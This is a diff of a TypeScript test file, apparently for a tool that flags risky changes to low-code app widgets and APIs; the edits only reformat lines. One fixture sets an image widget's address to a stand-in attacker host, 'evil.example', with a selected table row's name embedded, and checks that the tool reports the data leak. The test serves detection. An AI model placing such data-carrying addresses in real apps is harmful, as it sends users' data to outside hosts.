@@ -87,7 +87,9 @@ const risksIn = (change: Change, records?: PageRecords): readonly Risk[] => risk
 describe('a risk', () => {
   it('is told with its place and what could happen', () => {
     const image = aWidget('Image1', 'image', { image: 'https://evil.example/{{ Table1.selectedRow.name }}' })
-    expect(risksIn(adding(image)).map(wordsOfRisk).join('\n')).toContain('Image1.image puts data into an address')
+    expect(risksIn(adding(image)).map(wordsOfRisk).join('\n')).toContain(
+      'Image1.image puts data into an address',
+    )
   })
 })
 
@@ -142,7 +144,10 @@ describe('what is chosen of a proposal', () => {
 
 describe('what is listed of a change', () => {
   it('has its new name, its properties, and the blocks of an API, before and after', () => {
-    const base = { Input1: aWidget('Input1', 'input', { label: 'Name' }), GetOrders: anApi('GetOrders', 'select 1') }
+    const base = {
+      Input1: aWidget('Input1', 'input', { label: 'Name' }),
+      GetOrders: anApi('GetOrders', 'select 1'),
+    }
     const change = updating(
       [base.Input1, { ...base.Input1, name: 'Search', properties: { label: 'Search' } }],
       [base.GetOrders, anApi('GetOrders', 'select 2')],
